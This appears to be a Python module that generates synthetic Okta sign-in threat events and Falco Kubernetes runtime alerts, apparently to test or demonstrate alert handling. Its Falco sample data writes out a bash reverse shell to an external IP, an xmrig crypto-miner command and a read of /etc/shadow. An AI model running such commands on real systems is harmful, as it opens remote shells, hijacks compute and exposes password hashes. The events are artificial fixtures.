"""Sample identity and container-runtime alerts: Okta System Log and Falco events."""

from __future__ import annotations

import json
from datetime import datetime
from typing import Any

from affidavit.samples._alerts_world import World, iso

__all__ = ["falco_event", "okta_event"]

_USER_AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36"
)


def _okta_case(world: World, email: str) -> dict[str, Any]:
    case = world.rng.randrange(4)
    if case == 0:
        threats = {"Password Spray": "HIGH", "Login failures with high unknown users count": "HIGH"}
        return {
            "eventType": "security.threat.detected",
            "severity": "WARN",
            "displayMessage": "Request from suspicious actor",
            "outcome": {"result": "DENY", "reason": "Password Spray"},
            "debugContext": {
                "debugData": {
                    "threatSuspected": "true",
                    "threatDetections": json.dumps(threats),
                    "requestUri": "/api/v1/authn",
                }
            },
            "ip_actor": True,
        }
    if case == 1:
        return {
            "eventType": "user.account.lock",
            "severity": "WARN",
            "displayMessage": "Max sign in attempts exceeded",
            "outcome": {"result": "FAILURE", "reason": "LOCKED_OUT"},
        }
    if case == 2:
        return {
            "eventType": "user.session.start",
            "severity": "INFO",
            "displayMessage": "User login to Okta",
            "outcome": {"result": "FAILURE", "reason": "INVALID_CREDENTIALS"},
        }
    return {
        "eventType": "user.account.report_suspicious_activity_by_enduser",
        "severity": "WARN",
        "displayMessage": "User report suspicious activity",
        "outcome": {"result": "SUCCESS"},
        "target": [
            {
                "id": f"00u{world.hex(17)}",
                "type": "User",
                "alternateId": email,
                "displayName": email.split("@")[0].title(),
            }
        ],
    }


def okta_event(world: World, when: datetime) -> dict[str, Any]:
    """An Okta System Log event (ThreatInsight, lockout, failed sign-in, user report)."""
    email, ext_ip = world.email(), world.external_ip()
    case = _okta_case(world, email)
    if case.pop("ip_actor", False):
        actor = {
            "id": ext_ip,
            "type": "IP address",
            "alternateId": "unknown",
            "displayName": ext_ip,
        }
    else:
        actor = {
            "id": f"00u{world.hex(17)}",
            "type": "User",
            "alternateId": email,
            "displayName": email.split("@")[0].title(),
        }
    geo = {"city": "Example City", "country": "Exampleland", "postalCode": "00000"}
    return {
        "uuid": world.uuid(),
        "published": iso(when),
        "version": "0",
        "legacyEventType": case["eventType"],
        "actor": actor,
        "client": {
            "userAgent": {"rawUserAgent": _USER_AGENT, "os": "Windows 10", "browser": "CHROME"},
            "zone": "null",
            "device": "Computer",
            "ipAddress": ext_ip,
            "geographicalContext": geo,
        },
        "authenticationContext": {"authenticationStep": 0, "externalSessionId": world.hex(24)},
        "securityContext": {"asNumber": 64500, "asOrg": "example hosting", "isProxy": False},
        "request": {"ipChain": [{"ip": ext_ip, "geographicalContext": geo, "version": "V4"}]},
        "transaction": {"type": "WEB", "id": world.hex(20), "detail": {}},
        "target": [],
        "debugContext": {"debugData": {"requestUri": "/api/v1/authn"}},
        **case,
    }


def _falco_case(world: World) -> dict[str, Any]:
    ext_ip = world.external_ip()
    cases: list[dict[str, Any]] = [
        {
            "rule": "Redirect STDOUT/STDIN to Network Connection in Container",
            "priority": "Critical",
            "message": "Redirect stdout/stdin to network connection",
            "tags": ["T1059.004", "container", "mitre_execution", "network", "shell"],
            "proc": ("bash", f"bash -i >& /dev/tcp/{ext_ip}/4444 0>&1", "php-fpm"),
            "fd": f"{ext_ip}:4444",
        },
        {
            "rule": "Detect crypto miners using the Stratum protocol",
            "priority": "Critical",
            "message": "Possible miner running",
            "tags": ["T1496", "container", "mitre_impact", "process"],
            "proc": ("xmrig", f"xmrig -o stratum+tcp://{ext_ip}:3333 -u worker1 -p x", "sh"),
            "fd": f"{ext_ip}:3333",
        },
        {
            "rule": "Read sensitive file untrusted",
            "priority": "Warning",
            "message": "Sensitive file opened for reading by non-trusted program",
            "tags": ["T1555", "container", "filesystem", "mitre_credential_access"],
            "proc": ("cat", "cat /etc/shadow", "bash"),
            "fd": None,
        },
        {
            "rule": "Terminal shell in container",
            "priority": "Notice",
            "message": "A shell was spawned in a container with an attached terminal",
            "tags": ["T1059", "container", "mitre_execution", "shell"],
            "proc": ("bash", "bash", "runc"),
            "fd": None,
        },
    ]
    return world.rng.choice(cases)


def falco_event(world: World, when: datetime) -> dict[str, Any]:
    """A Falco JSON event (as Falcosidekick forwards it) from a Kubernetes node."""
    case = _falco_case(world)
    name, command, parent = case["proc"]
    namespace = world.pick(("production", "payments", "web"))
    pod = f"{namespace}-api-{world.hex(10)}-{world.hex(5)}"
    container = world.hex(12)
    user = world.pick(("root", "www-data", "nobody"))
    fields: dict[str, Any] = {
        "container.id": container,
        "container.image.repository": "registry.corp.example/" + namespace + "/api",
        "container.image.tag": f"1.{world.rng.randrange(0, 30)}.{world.rng.randrange(0, 10)}",
        "evt.time": int(when.timestamp()) * 1_000_000_000 + when.microsecond * 1000,
        "k8s.ns.name": namespace,
        "k8s.pod.name": pod,
        "proc.cmdline": command,
        "proc.name": name,
        "proc.pname": parent,
        "user.name": user,
    }
    if case["fd"]:
        fields["fd.name"] = case["fd"]
        fields["fd.lip"] = world.internal_ip()
    details = " ".join(f"{key}={value}" for key, value in fields.items() if key != "evt.time")
    stamp = iso(when, 6)[:-1] + "000Z"  # Falco writes nanoseconds
    return {
        "uuid": world.uuid(),
        "hostname": f"k8s-worker-{world.rng.randrange(1, 12):02d}",
        "output": f"{stamp}: {case['priority']} {case['message']} ({details})",
        "priority": case["priority"],
        "rule": case["rule"],
        "source": "syscall",
        "tags": case["tags"],
        "time": stamp,
        "output_fields": fields,
    }
